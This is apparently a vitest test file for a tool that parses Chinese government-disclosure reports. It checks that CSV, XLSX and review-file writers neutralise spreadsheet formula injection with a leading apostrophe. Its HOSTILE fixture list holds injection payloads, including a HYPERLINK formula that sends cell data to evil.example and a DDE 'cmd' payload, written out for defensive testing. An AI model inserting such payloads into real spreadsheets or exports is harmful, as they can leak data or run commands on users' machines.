// Formula injection (issue 15 item 3): text Excel would run (= + - @ tab CR) is written with a leading
// apostrophe in every CSV the project writes, numbers stay numbers, and the readers strip it again.
import { describe, expect, it, vi } from "vitest";
import Papa from "papaparse";
import { needsFormulaPrefix, prefixFormula, unprefixFormula } from "../loaders/output/formula.ts";
// @ts-expect-error plain browser JS modules without types
import * as browser from "../src/components/csv-safe.js";
import { toCsv } from "../loaders/output/csv.ts";
import { writeTables } from "../loaders/output/write-tables.ts";
import { parseReport } from "../loaders/parse-report.ts";
import { correctionsCsv, decisionsCsv, parseCorrectionsCsv, parseDecisionsCsv } from "../loaders/review/review-files.ts";
// @ts-expect-error plain browser JS modules without types
import { parseTypedCsv } from "../src/components/typed-csv.js";
// @ts-expect-error plain browser JS modules without types
import { toCsv as exportCsv, sheet, toXlsx } from "../src/components/export.js";
// @ts-expect-error plain browser JS modules without types
import { correctionsFileText, decisionsFileText } from "../src/components/review-files.js";
import { DECISION_COLUMNS, CORRECTION_COLUMNS } from "../loaders/review/review-files.ts";

// export.js reaches table-schema.js, which reads schema.json through Framework's FileAttachment.
vi.mock("observablehq:stdlib", async () => {
  const { siteSchema } = await import("../loaders/output/site-schema.ts");
  return { FileAttachment: () => ({ json: async () => JSON.parse(JSON.stringify(siteSchema())) }) };
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"详情")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd",
  "@SUM(1+1)*cmd",
  "\t=1+1",
  "\r=1+1",
  "'=already",
  "''+twice",
  "-",
  "--",
];
const KEPT = ["-3", "-0.5", "+2", "3", "1e-7", "-1E5", "普通文字", "'普通", "a=b", "", "'-3", ".5"];

describe("the formula rule (loaders/output/formula.ts and its browser twin)", () => {
  it("prefixes formula-like text, keeps numbers and plain text", () => {
    for (const t of HOSTILE.filter((t) => t !== "-")) expect(prefixFormula(t), JSON.stringify(t)).toBe(`'${t}`);
    for (const t of KEPT) expect(prefixFormula(t), JSON.stringify(t)).toBe(t);
  });

  it("round-trips every text: strip one apostrophe gives back what was written", () => {
    for (const t of [...HOSTILE, ...KEPT]) expect(unprefixFormula(prefixFormula(t))).toBe(t);
  });

  it("the browser's csv-safe.js says the same", () => {
    for (const t of [...HOSTILE, ...KEPT, "'''=x", "'-x"]) {
      expect(browser.needsFormulaPrefix(t)).toBe(needsFormulaPrefix(t));
      expect(browser.prefixFormula(t)).toBe(prefixFormula(t));
      expect(browser.unprefixFormula(t)).toBe(unprefixFormula(t));
    }
  });
});

const parseCsv = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;

describe("the output tables (loaders/output/csv.ts)", () => {
  it("writes formula-like text with an apostrophe and numbers, negative ones too, as they are", () => {
    const rows = [{ a: HOSTILE[0], n: -3, x: -0.5, s: "-3", t: "\t=1" }];
    const [, row] = parseCsv(toCsv(["a", "n", "x", "s", "t"], rows));
    expect(row).toEqual([`'${HOSTILE[0]}`, "-3", "-0.5", "-3", "'\t=1"]);
  });

  it("evidence snippets and file names of a real parse are neutralised, and the site's parser shows them as written", () => {
    const text = "石桥镇2016年政府信息公开工作年度报告\n\n=HYPERLINK(\"http://evil.example\",\"详情\")我镇主动公开政府信息120条。\n\n石桥镇人民政府\n2017年3月2日\n";
    const record = parseReport("=cmd.txt", new TextEncoder().encode(text));
    const tables = writeTables([record]);
    const reports = Papa.parse<Record<string, string>>(tables["reports.csv"], { header: true }).data;
    expect(reports[0].file).toBe("'=cmd.txt");
    const evidence = Papa.parse<Record<string, string>>(tables["evidence.csv"], { header: true, skipEmptyLines: true }).data;
    const snippet = evidence.find((e) => e.field === "active_total")!.snippet;
    expect(snippet.startsWith("'=HYPERLINK")).toBe(true);
    // the pages parse the tables with parseTypedCsv: the text as the report has it
    const shown = parseTypedCsv(tables["evidence.csv"], { snippet: "VARCHAR", value: "DOUBLE" }) as Record<string, unknown>[];
    expect(shown.find((e) => e.field === "active_total")!.snippet).toBe(snippet.slice(1));
    expect((parseTypedCsv(tables["reports.csv"], { file: "VARCHAR" })[0] as Record<string, unknown>).file).toBe("=cmd.txt");
  });
});

const decision = { finding_id: "abc:rule:", report_id: "r1", file: "=x.txt", township: "石桥镇", year: "2024", rule: "t3_sum", decision: "dismissed" as const, note: "=SUM(A1:A9)", by: "@张三", date: "2026-12-01" };
const correction = { report_id: "r1", content_hash: "abc", file: "+x.txt", township: "石桥镇", year: "2024", target: "t3.new.total", original: "-5", value: "-2", reason: "-原表抄错", by: "张三", date: "2026-12-01" };

describe("the review files (核查记录.csv / 更正记录.csv)", () => {
  it("the CLI's writer neutralises and its reader strips the apostrophe: a note \"=SUM\" round-trips", () => {
    const text = decisionsCsv([decision]);
    const row = parseCsv(text)[1];
    expect(row[DECISION_COLUMNS.findIndex(([f]) => f === "note")]).toBe("'=SUM(A1:A9)");
    expect(row[DECISION_COLUMNS.findIndex(([f]) => f === "by")]).toBe("'@张三");
    const back = parseDecisionsCsv(text).rows[0];
    expect(back).toMatchObject({ note: "=SUM(A1:A9)", by: "@张三", file: "=x.txt" });
    const ctext = correctionsCsv([correction]);
    const crow = parseCsv(ctext)[1];
    expect(crow[CORRECTION_COLUMNS.findIndex(([f]) => f === "value")]).toBe("-2");
    expect(crow[CORRECTION_COLUMNS.findIndex(([f]) => f === "reason")]).toBe("'-原表抄错");
    expect(parseCorrectionsCsv(ctext).rows[0]).toMatchObject({ file: "+x.txt", original: "-5", value: "-2", reason: "-原表抄错" });
  });

  it("the browser's writer (src/components/review-files.js) does the same, and the CLI reads it back", () => {
    const review = { decisionColumns: DECISION_COLUMNS, correctionColumns: CORRECTION_COLUMNS };
    const dtext = decisionsFileText(review, [], [{ ...decision, word: "排除" }]);
    expect(parseCsv(dtext)[1]).toContain("'=SUM(A1:A9)");
    expect(parseDecisionsCsv(dtext).rows[0]).toMatchObject({ note: "=SUM(A1:A9)", decision: "dismissed" });
    const ctext = correctionsFileText(review, [], [correction]);
    expect(parseCorrectionsCsv(ctext).rows[0]).toMatchObject({ reason: "-原表抄错", value: "-2" });
  });
});

describe("the site's exports (src/components/export.js)", () => {
  const s = sheet("明细", [{ t: HOSTILE[0], tab: "\t=1", cr: "\r=1", n: -3, neg: "-0.5" }], [
    { key: "t", label: "文字", kind: "text" }, { key: "tab", label: "制表", kind: "text" }, { key: "cr", label: "回车", kind: "text" },
    { key: "n", label: "数", kind: "number" }, { key: "neg", label: "负数文字", kind: "text" },
  ]);

  it("CSV: formula-like text (tab and CR too) gets an apostrophe, numbers do not", () => {
    const [, row] = parseCsv(exportCsv(s));
    expect(row).toEqual([`'${HOSTILE[0]}`, "'\t=1", "'\r=1", "-3", "-0.5"]);
  });

  it("XLSX: the cells are plain strings, never formulas", async () => {
    const bytes = await toXlsx({ title: "t", sheets: [s] }, { page: "p", url: "http://localhost/", filter: "", demo: false, exportedAt: new Date(0) });
    const { default: ExcelJS } = await import("exceljs");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = workbook.worksheets[0];
    const values = (ws.getRow(2).values as unknown[]).slice(1);
    // XML turns a CR into a line feed; what matters is that each is a string
    expect(values).toEqual([HOSTILE[0], "\t=1", expect.stringMatching(/^[\r\n]=1$/), -3, "-0.5"]);
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      expect(cell.formula, cell.address).toBeUndefined();
      expect(typeof cell.value === "object" && cell.value !== null && !(cell.value instanceof Date), cell.address).toBe(false);
    })));
  });
});
